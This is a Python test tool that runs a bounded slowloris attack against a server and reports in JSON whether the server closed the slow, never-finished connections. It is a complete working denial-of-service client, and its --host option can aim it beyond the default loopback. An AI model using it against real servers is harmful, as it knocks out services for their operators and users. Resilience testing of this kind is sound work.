#!/usr/bin/env python3
"""slowloris.py - a bounded slowloris client for tests: many connections that
each send one byte of a request head a second and never finish it.

While the attack lasts (until --stop-file exists, or --attack seconds), a
connection the server closes is opened again (at most once a second per
slot), as an attacker would. Then none is, and the tool waits at most --wait
seconds for the server to close the rest; it never closes one itself before
that. It prints one JSON line:

  opened            connections established
  refused           connection attempts that failed (refused, reset, timed out)
  closed_by_server  established connections the server closed (FIN or reset)
  answered          of those, closed after an HTTP answer; statuses: their codes
  most_open         the most connections open at once (as this side saw them)
  open_at_end       connections still open when the wait ended

and exits 0 when the server closed every connection it accepted, 1 otherwise.
--ready-file is created once the first --conns connections were attempted.
Loopback only by default; everything is bounded by --attack and --wait.
"""
import argparse
import errno
import json
import os
import selectors
import socket
import sys
import time

HEAD = b"GET /v1/status HTTP/1.1\r\nHost: slow\r\nX-Slow: "


class Slot:
    def __init__(self):
        self.sock = None
        self.state = "closed"  # connecting, open, closed
        self.sent = 0
        self.next_send = 0.0
        self.reopen_at = 0.0
        self.reply = b""


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--conns", type=int, default=300)
    ap.add_argument("--attack", type=float, default=20.0, help="most seconds of attack")
    ap.add_argument("--stop-file", help="stop the attack when this file exists")
    ap.add_argument("--wait", type=float, default=30.0, help="seconds to wait for the closes")
    ap.add_argument("--ready-file")
    a = ap.parse_args()

    sel = selectors.DefaultSelector()
    slots = [Slot() for _ in range(a.conns)]
    stats = {"opened": 0, "refused": 0, "closed_by_server": 0, "answered": 0,
             "statuses": {}, "most_open": 0, "open_at_end": 0}
    attack_end = time.monotonic() + a.attack
    wait_until = None  # set when the attack ends
    ready = False

    def drop(s, by_server):
        if s.state == "open" and by_server:
            stats["closed_by_server"] += 1
            if s.reply.startswith(b"HTTP/1."):
                stats["answered"] += 1
                code = s.reply[9:12].decode("ascii", "replace")
                stats["statuses"][code] = stats["statuses"].get(code, 0) + 1
        elif s.state == "connecting":
            stats["refused"] += 1
        sel.unregister(s.sock)
        s.sock.close()
        s.sock, s.state, s.reply = None, "closed", b""
        s.reopen_at = time.monotonic() + 1.0

    def open_slot(s, now):
        s.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.sock.setblocking(False)
        rc = s.sock.connect_ex((a.host, a.port))
        s.state, s.sent, s.reply = "connecting", 0, b""
        sel.register(s.sock, selectors.EVENT_WRITE | selectors.EVENT_READ, s)
        if rc not in (0, errno.EINPROGRESS):
            drop(s, False)

    def send_byte(s, now):
        b = HEAD[s.sent:s.sent + 1] or b"a"
        try:
            s.sock.send(b)
        except OSError:
            drop(s, True)
            return
        s.sent += 1
        s.next_send = now + 1.0

    while True:
        now = time.monotonic()
        attacking = now < attack_end and not (a.stop_file and os.path.exists(a.stop_file))
        if attacking:
            for s in slots:
                if s.state == "closed" and now >= s.reopen_at:
                    open_slot(s, now)
        elif wait_until is None:
            wait_until = now + a.wait
        if not ready and a.ready_file:
            open(a.ready_file, "w").close()
            ready = True
        if not attacking and (now > wait_until or all(s.state == "closed" for s in slots)):
            break
        for key, ev in sel.select(timeout=0.05):
            s = key.data
            if s.state == "connecting" and ev & selectors.EVENT_WRITE:
                err = s.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    drop(s, False)
                    continue
                s.state = "open"
                stats["opened"] += 1
                sel.modify(s.sock, selectors.EVENT_READ, s)
                send_byte(s, time.monotonic())
                continue
            if s.state == "open" and ev & selectors.EVENT_READ:
                try:
                    data = s.sock.recv(4096)
                except OSError:
                    data = b""
                if data:
                    s.reply += data
                else:
                    drop(s, True)
        now = time.monotonic()
        for s in slots:
            if s.state == "open" and now >= s.next_send:
                send_byte(s, now)
        stats["most_open"] = max(stats["most_open"], sum(s.state == "open" for s in slots))
    stats["open_at_end"] = sum(s.state == "open" for s in slots)
    for s in slots:
        if s.sock:
            s.sock.close()
    print(json.dumps(stats, sort_keys=True))
    sys.exit(0 if stats["open_at_end"] == 0 else 1)


if __name__ == "__main__":
    main()
